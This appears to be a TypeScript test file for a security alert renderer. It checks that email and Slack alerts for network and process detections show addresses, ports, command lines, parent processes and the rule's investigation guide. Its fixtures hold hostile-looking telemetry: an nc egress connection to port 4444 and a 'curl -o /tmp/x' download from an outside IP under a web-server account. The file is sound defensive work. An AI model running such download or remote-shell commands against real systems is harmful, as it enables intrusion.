/**
 * Alerts of the pack's non-file rules read right: "what was detected" shows the event's category
 * context (process: command line, args, parent, user; network: addresses, ports, direction) and
 * the rule's own fields, and the triage text is the rule's investigation guide, not advice written
 * for file creations.
 */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { Alert } from "../../src/alerts/index.ts";
import { type AlertMessageInput, renderChatbot, renderEmail } from "../../src/alerts/render.ts";
import { OBJECT } from "../fixtures/lambda/alerts.ts";

const RULE: Alert["rule"] = {
  id: "r-net",
  name: "Connection to a rare port",
  severity: "medium",
  risk_score: 47,
  threat: [],
};

function alert(event: Record<string, unknown>): Alert {
  return { id: "a1", rule: RULE, source: { uri: OBJECT.uri, record: 7 }, event, raw: {} };
}

const network = alert({
  "@timestamp": "2024-05-01T12:00:00Z",
  "event.category": ["network"],
  "host.name": "db-3",
  "source.ip": "10.0.0.5",
  "source.port": "51544",
  "destination.ip": "203.0.113.9",
  "destination.port": "4444",
  "network.direction": "egress",
  "network.transport": "tcp",
  "process.executable": "/usr/bin/nc",
  "user.name": "postgres",
});

const process_ = alert({
  "@timestamp": "2024-05-01T12:00:00Z",
  "event.category": ["process"],
  "host.name": "web-7",
  "process.executable": "/usr/bin/curl",
  "process.args": ["curl", "-o", "/tmp/x", "http://203.0.113.9/x"],
  "process.command_line": "curl -o /tmp/x http://203.0.113.9/x",
  "process.parent.executable": "/bin/bash",
  "process.parent.command_line": "bash -i",
  "user.name": "www-data",
  "process.working_directory": "/var/www",
});

const NOTE =
  "## Triage and analysis\n\n- Check the destination `destination.ip` reputation.\n- Identify the process owner.\n";

function input(a: Alert, ruleContext: AlertMessageInput["ruleContext"]): AlertMessageInput {
  return {
    id: "m1",
    object: OBJECT,
    rule: RULE,
    alerts: [a],
    totalAlerts: 1,
    part: 1,
    parts: 1,
    ...(ruleContext ? { ruleContext } : {}),
  };
}

describe("alerts for any rule", () => {
  test("a network event shows addresses, ports, direction and transport", () => {
    const email = renderEmail(input(network, {}));
    for (const line of [
      "Source:  10.0.0.5",
      "Dest:    203.0.113.9",
      "Dst port: 4444",
      "Direction: egress",
      "Protocol: tcp",
      "Process: /usr/bin/nc",
      "User:    postgres",
    ]) {
      assert.ok(email.includes(line), `email has ${JSON.stringify(line)}\n${email}`);
    }
    assert.doesNotMatch(email, /File:/);
    const slack = JSON.parse(renderChatbot(input(network, {}))).content.description as string;
    assert.match(slack, /source `10\.0\.0\.5` dest `203\.0\.113\.9` port `4444`/);
  });

  test("a process event shows command line, args, parent and user, and the fields the rule read", () => {
    const email = renderEmail(input(process_, { fields: ["process.working_directory", "process.name"] }));
    for (const line of [
      "Command: curl -o /tmp/x http://203.0.113.9/x",
      "Args:    curl, -o, /tmp/x, http://203.0.113.9/x",
      "Parent:  /bin/bash",
      "Par. cmd: bash -i",
      "User:    www-data",
      "process.working_directory: /var/www",
    ]) {
      assert.ok(email.includes(line), `email has ${JSON.stringify(line)}\n${email}`);
    }
  });

  test("the rule's guide and false positives replace the generic triage steps", () => {
    const email = renderEmail(
      input(network, { note: NOTE, falsePositives: ["Backups to an offsite host."], file: "rules/x.toml" }),
    );
    assert.match(
      email,
      /INVESTIGATION GUIDE \(from the rule\)\nTRIAGE AND ANALYSIS\n\n- Check the destination destination\.ip reputation\./,
    );
    assert.match(email, /KNOWN FALSE POSITIVES\n- Backups to an offsite host\./);
    assert.doesNotMatch(email, /FIRST TRIAGE STEPS|dpkg -S/);
    const slack = JSON.parse(renderChatbot(input(network, { note: NOTE }))).content.description as string;
    assert.match(slack, /\*Investigation guide\* \(from the rule\)\n\*Triage and analysis\*/);
  });

  test("without a guide, the generic steps are the fallback", () => {
    assert.match(renderEmail(input(network, {})), /FIRST TRIAGE STEPS/);
  });
});
